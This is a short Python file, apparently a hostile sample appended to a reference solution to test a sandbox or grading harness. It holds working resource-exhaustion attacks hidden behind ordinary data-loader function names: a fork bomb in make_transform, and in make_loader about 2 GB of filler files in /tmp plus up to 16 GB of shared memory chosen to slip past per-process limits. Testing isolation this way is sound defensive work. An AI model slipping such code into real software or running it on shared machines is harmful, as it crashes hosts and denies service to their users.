# appended to the reference
import mmap
import os
import time

MARK = "hostile-resource-bombs"


def make_transform(augment=False):
    """A fork bomb: forks until the kernel refuses; each child sleeps."""
    forked = 0
    try:
        for _ in range(3000):
            if os.fork() == 0:
                time.sleep(600)
                os._exit(0)
            forked += 1
    except OSError:
        pass
    raise RuntimeError(f"{MARK}: forked {forked}")


def make_loader(dataset, batch_size=64, shuffle=True, seed=0, num_workers=0):
    """Memory no per-process data limit sees (MAP_SHARED), then files past the scratch size."""
    written = 0
    try:
        for index in range(10):
            with open(f"/tmp/{MARK}-{index}", "wb") as f:
                for _ in range(200):
                    f.write(bytes(2**20))
                    written += 1
    except OSError:
        pass
    shared = []
    try:
        for _ in range(16):
            block = mmap.mmap(-1, 2**30, mmap.MAP_SHARED)
            for offset in range(0, 2**30, 4096):
                block[offset] = 1
            shared.append(block)
    except (OSError, MemoryError):
        pass
    raise RuntimeError(f"{MARK}: wrote {written} MB, shared {len(shared)} GB")
